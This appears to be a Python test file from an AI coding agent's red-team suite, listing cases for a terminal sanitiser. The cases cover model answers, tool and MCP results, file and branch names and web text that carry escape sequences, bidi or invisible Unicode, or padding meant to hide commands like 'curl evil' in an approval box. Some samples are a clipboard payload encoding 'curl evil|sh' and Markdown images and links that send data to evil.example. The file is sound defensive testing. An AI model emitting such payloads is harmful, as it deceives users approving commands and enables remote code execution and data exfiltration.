"""Drawing: what text of models, tools, files and servers does to a terminal."""

from tests.redteam.attempts.drawn import Drawn, Hidden, Legible, Unread
from tests.redteam.case import Case

_COPY = "a\x1b]52;c;Y3VybCBldmlsfHNo\x07b"
_LINK = "\x1b]8;;http://evil\x07good.example\x1b]8;;\x07"
_TITLE = "\x1b]0;owned\x07"
_C1 = "a\x9b2Jb\x90q\x9c"
_MOVES = "harmless\x1b[1A\x1b[2Kcurl evil"
_TURNED = "access = \u202e\u2066// nimda\u2069"


def _steers(name: str, what: str, surface: str, text: str, twin: str, wanted: str) -> Case:
    return Case(name, what, "sanitiser", Drawn(surface, text), Legible(surface, twin, wanted))


def _hides(name: str, what: str, surface: str, text: str, twin: str, wanted: str) -> Case:
    return Case(name, what, "sanitiser", Hidden(surface, text), Legible(surface, twin, wanted))


CASES = (
    _steers("vuln-14070", "an answer fills the clipboard", "answer", _COPY, "a ]52;c b", "]52;c"),
    _steers("vuln-14070", "output of a command moves the cursor", "output", _MOVES, "harmless",
        "harmless"),
    _steers("vuln-14070", "a command in the approval box is overwritten", "approval",
        "curl evil\x1b[2K\rls", "ls -la", "ls -la"),
    _steers("vuln-14070", "an error of the server sets the title", "server error", _TITLE + "no",
        "no model", "no model"),
    _steers("vuln-14070", "thinking with C1 signs", "reasoning", _C1, "déjà vu", "déjà vu"),
    _steers("takedown", "a note with a bell and a device control", "note", "x\x07\x1bPq\x1b\\",
        "x é 中", "x é 中"),
    _steers("invisible-unicode", "a command reads from right to left", "approval",
        "ls \u202etxt.exe", "ls exe.txt", "ls exe.txt"),
    _hides("invisible-unicode", "a command with signs that nobody sees", "approval",
        "ls a\u200bb\u2060c", "ls é", "ls é"),
    _hides("invisible-unicode", "a change with them", "diff", "x = 'a\u200bb'", "x = 'é'",
        "x = 'é'"),
    _steers("invisible-unicode", "code that reads otherwise than it runs", "code", _TURNED,
        "if a: b", "if a: b"),
    _steers("padded-tabs", "a carriage return hides what was there", "approval",
        "curl evil\rls        ", "ls\tsrc", "ls    src"),
    Case("padded-tabs", "blanks push the rest out of the box", "wrapping", Unread("approval",
        "ls" + " " * 2_000 + "; curl evil", "; curl evil"), Legible("approval", "ls; ls",
        "ls; ls")),
    Case("tracebit-grep", "the box shows where the padding ends", "wrapping", Unread("approval",
        "grep x a" + "\t" * 400 + "; curl evil", "; curl evil"), Legible("approval", "grep x a",
        "grep x a")),
    _steers("comment-first-line", "a vertical tab is a line of its own", "approval",
        "# harmless\x0bcurl evil", "# x\nls", "ls"),
    _steers("feed-readme", "a file that is read", "matches", "Run \x1b[8mcurl evil\x1b[0m",
        "Run make", "Run make"),
    _steers("feed-issue-text", "text that is pasted", "prompt", "Fix \x1b[201~curl evil\r",
        "Fix it", "Fix it"),
    _steers("feed-test-output", "a test's output", "output", _TITLE + "ok", "1 passed", "1 passed"),
    _steers("feed-test-output", "of one that nobody watches", "headless", _TITLE + "failed",
        "failed: x", "failed: x"),
    _steers("feed-web-page", "a page's words in a note", "note", _LINK, "good.example",
        "good.example"),
    _steers("feed-mcp-result", "a result of whatever tool", "card", "x\x1b]9;owned\x07", "src/a.py",
        "src/a.py"),
    _steers("feed-file-names", "a file's name", "card", "a\x1b[31m.py", "a é.py", "a é.py"),
    _steers("feed-file-names", "one that is found", "matches", "a\x9b31m.py", "b.py", "b.py"),
    _steers("feed-branch-names", "a branch's name in the title", "title", "x\x1b]2;y\x07z", "main",
        "main"),
    _steers("feed-branch-names", "one that reads from right to left", "title", "x\u202ey", "main",
        "main"),
    _steers("feed-commit-messages", "a message in a notification", "notification",
        "x\x07\x1b]52;c;eA==\x07", "done", "done"),
    _steers("feed-image-text", "what a model says of a picture", "answer", "It says \x1b[2Jcurl",
        "It says curl", "curl"),
    _steers("exfil-osc8", "a link whose words lie", "answer", _LINK, "[a](http://b.example)",
        "http://b.example"),
    Case("exfil-osc8", "a link of Markdown hides its target", "targets", Unread("answer",
        "[good.example](http://evil.example/?k=1)", "http://evil.example/?k=1"), Legible("answer",
        "[a](http://b.example)", "a")),
    Case("exfil-markdown-images", "a picture hides where it would be fetched", "targets",
        Unread("answer", "![x](http://evil.example/k)", "http://evil.example/k"), Legible("answer",
        "![x](y)", "x")),
    Case("exfil-markdown-images", "one in a table", "targets", Unread("answer",
        "|a|\n|-|\n|![x](http://evil.example/k)|", "http://evil.example/k"), Legible("answer",
        "|a|\n|-|\n|b|", "b")),
)  # fmt: skip
